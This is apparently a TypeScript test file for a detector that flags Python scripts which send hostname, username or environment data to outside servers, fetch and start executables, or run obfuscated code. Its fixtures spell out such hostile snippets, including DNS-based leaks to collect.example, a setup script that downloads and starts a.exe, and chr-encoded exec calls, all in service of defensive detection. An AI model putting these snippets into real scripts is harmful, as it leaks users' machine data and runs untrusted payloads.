// What Python scripts learn of the machine and send away, and what they fetch and start, followed from name to name.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { testOnFacts } from '../../../../test/file/detector-table.ts'
import { fileFacts } from '../../../../test/file/empty-facts.ts'
import type { FileFacts } from '../../facts.ts'
import { codeAlone } from '../../formats/script/python/code-alone.ts'
import { statementsOf } from '../../formats/script/python/statements.ts'
import { readScript } from '../../formats/script/read.ts'
import { packageRunsFetchedCode } from '../installer/package-runs-fetched-code.ts'
import { ruleDetectors } from '../rule-detectors.ts'
import { scriptRunsUnreadableCode } from './evasion/script-runs-unreadable-code.ts'
import { hasTrait } from './seen-scripts.ts'

const python = (...lines: readonly string[]): Partial<FileFacts> => ({
  script: readScript(lines.join('\n'), 'python').facts,
})
const SETUP = ['from setuptools import setup', 'import socket, os, getpass, requests']

const reports = Object.values(ruleDetectors('script')).filter(({ id }) => id === 'script_reports_its_machine')

testOnFacts(reports, {
  script_reports_its_machine: {
    hits: {
      'host and user in the body of a request': python(
        'import socket, getpass, requests',
        'host = socket.gethostname()',
        'data = {"a": host,',
        '  "b": getpass.getuser()}',
        'requests.post("https://collect.example/i", json=data)',
      ),
      'spelled into the name of a host, through a function': python(
        'import os, socket, base64',
        'def tell(text, kind):',
        '    name = text.encode().hex()',
        '    socket.gethostbyname(f"{kind}.{name}.collect.example")',
        'tell(os.uname().nodename, "h")',
        'tell(os.getlogin(), "u")',
      ),
      'asked of a command and told by another': python(
        'import os',
        'who = os.popen("whoami").read()',
        'where = os.getcwd()',
        'os.system("ping -c 1 " + who + where + ".collect.example")',
      ),
      'one fact to a bare address': python(
        'import os, requests',
        'requests.get("http://192.0.2.7/?u=" + os.environ["USERNAME"])',
      ),
      'by a class of its own, to a server that the file names elsewhere': python(
        'import socket, getpass',
        'class Client:',
        '    told = {"host": "cd.collect.example", "port": 4444}',
        '    def start(self):',
        '        self.sock = socket.socket()',
        '        self.sock.connect(self.where())',
        '        name = socket.gethostname() + "|" + getpass.getuser()',
        '        self.sock.sendall(name.encode())',
      ),
    },
    misses: {
      'the host alone, to a server with a name': python(
        'import socket, requests',
        'requests.post("https://status.example/beat", json={"host": socket.gethostname()})',
      ),
      'facts that stay here': python(
        'import socket, getpass, requests',
        'print(socket.gethostname(), getpass.getuser())',
        'requests.get("https://status.example/version")',
      ),
      'words that are no names': python(
        'import socket, getpass, requests',
        'host = socket.gethostname()',
        'user = getpass.getuser()',
        'requests.post("https://forum.example/", json={"text": "host and user"})',
      ),
      'the name that the class of a protocol greets with': python(
        'import socket',
        'class Client:',
        '    def send(self, line):',
        '        self.sock.sendall(line)',
        '    def greet(self):',
        '        name = socket.getfqdn() or socket.gethostbyname(socket.gethostname())',
        '        self.send("EHLO " + name + "\\r\\n")',
      ),
      'the same, with an event that is named as a host is': python(
        'import socket, sys',
        'class Client:',
        '    def send(self, line):',
        '        sys.audit("client.send", self, line)',
        '        self.sock.sendall(line)',
        '    def greet(self):',
        '        name = socket.getfqdn() or socket.gethostbyname(socket.gethostname())',
        '        self.send("EHLO " + name + "\\r\\n")',
      ),
      'names of another function': python(
        'import socket, getpass, requests',
        'def local():',
        '    data = socket.gethostname() + getpass.getuser()',
        '    print(data)',
        'def remote(data):',
        '    requests.post("https://status.example/", data=data)',
        'remote("well")',
      ),
    },
  },
})

test('a script that installs its package and reports who does so, or starts what it fetched, is the attack', () => {
  const detect = (...lines: readonly string[]) => packageRunsFetchedCode.detect(fileFacts(python(...SETUP, ...lines)))
  assert.ok(
    detect('requests.get("https://collect.example/?h=" + socket.gethostname())', 'setup(name="x")') !== null,
    'reports',
  )
  const started = [
    'answer = requests.get("https://collect.example/a")',
    'place = os.path.join(os.environ["TEMP"], "a.exe")',
    'with open(place, "wb") as file:',
    '    file.write(answer.content)',
    'os.startfile(place)',
    'setup(name="x")',
  ]
  assert.ok(detect(...started) !== null, 'starts')
  assert.equal(detect('print(socket.gethostname())', 'setup(name="x")'), null)
  const reports = 'requests.get("https://collect.example/?h=" + socket.gethostname())'
  assert.equal(detect(reports, '# as in setup(name="x")'), null, 'in a comment')
  assert.equal(detect(reports, 'print("call setup(name) in your own script")'), null, 'in a text')
  assert.equal(detect(reports, '"""', 'setup(name="x")', '"""'), null, 'in a docstring')
  assert.ok(detect(reports, "note = 'it\\'s # no comment'; setup(name=\"x\")") !== null, 'behind a text')
})

test('statements are parted, and texts and comments left out, in linear time, ended or not', () => {
  const begun = performance.now()
  for (const text of [`"${'\\"'.repeat(60_000)}`, '"""\\'.repeat(40_000), `"""${"'''".repeat(40_000)}`])
    assert.ok(codeAlone(text).length < text.length && statementsOf(text).length > 0)
  assert.ok(performance.now() - begun < 2000)
})

test('texts with ends of lines are texts', () => {
  const { script } = python(
    'import os, socket, urllib.request',
    'all = "\\n".join(f"{k}={v}" for k, v in os.environ.items())',
    'told = "%s\\n%s" % (socket.gethostname(), all)',
    'urllib.request.urlopen("https://collect.example/?" + told)',
  )
  assert.ok(hasTrait(script ?? assert.fail(), 'machine_facts_sent_together'))
})

test('a fetched file is followed to what starts it, across functions; another file that is started is not it', () => {
  const fetched = (start: string) =>
    python(
      'import os, requests, subprocess',
      'target = os.environ["TEMP"] + "\\\\a.exe"',
      'def start():',
      `    subprocess.run(${start})`,
      'def fetch():',
      '    answer = requests.get("https://files.example/a.exe")',
      '    with open(target, "wb") as out:',
      '        for chunk in answer.iter_content(1024):',
      '            out.write(chunk)',
      'fetch(); start()',
    ).script
  const isFollowed = (start: string): boolean => hasTrait(fetched(start) ?? assert.fail(), 'runs_what_it_fetched')
  assert.ok(isFollowed('target'))
  assert.ok(!isFollowed('["make", "all"]'))
})

test('characters by their codes are read, and functions under other names', () => {
  const codes = [...'import os;os.system("id")'].map((letter) => letter.charCodeAt(0))
  for (const text of [
    `exec("".join(map(chr, [${codes}])))`,
    `exec(''.join(chr(c) for c in [${codes}]))`,
    `run = exec\nrun("".join(map(chr, [${codes}])))`,
    `run = eval("\\x65\\x78ec")\nrun("".join([chr(c) for c in (${codes})]))`,
  ])
    assert.ok(hasTrait(readScript(text, 'python').facts, 'runs_decoded_constant'), text)
})

test('Python that a tool made unreadable is found, numbers and names of honest code are not', () => {
  const hit = (...lines: readonly string[]) => scriptRunsUnreadableCode.detect(fileFacts(python(...lines)))
  const sums = Array.from({ length: 40 }, (_, at) => `x${at} = ((1 << ${(at % 5) + 1}) + ${at}) << 2`)
  const alike = Array.from(
    { length: 20 },
    (_, at) => `${[...at.toString(2).padStart(8, '0')].map((bit) => (bit === '0' ? 'l' : 'I')).join('')} = ${at}`,
  )
  assert.ok(hit(...sums, 'getattr(__builtins__, name)(value)') !== null)
  assert.ok(hit(...alike, 'exec(lIlIlIlI)') !== null)
  assert.equal(hit(...sums), null)
  assert.equal(hit(...alike.map((line) => line.replace(/^\w+/, (name) => `item_${name.length}`)), 'exec(source)'), null)
})

test('statements are followed in bounded work, whatever they nest', () => {
  for (const text of [
    'a = requests.get(b)\n'.repeat(20_000),
    `requests.get(${'('.repeat(100_000)}`,
    `def f(${'a,'.repeat(60_000)}`,
  ])
    assert.ok(readScript(`import requests, socket\n${text}`, 'python').facts.traits.length >= 0)
})
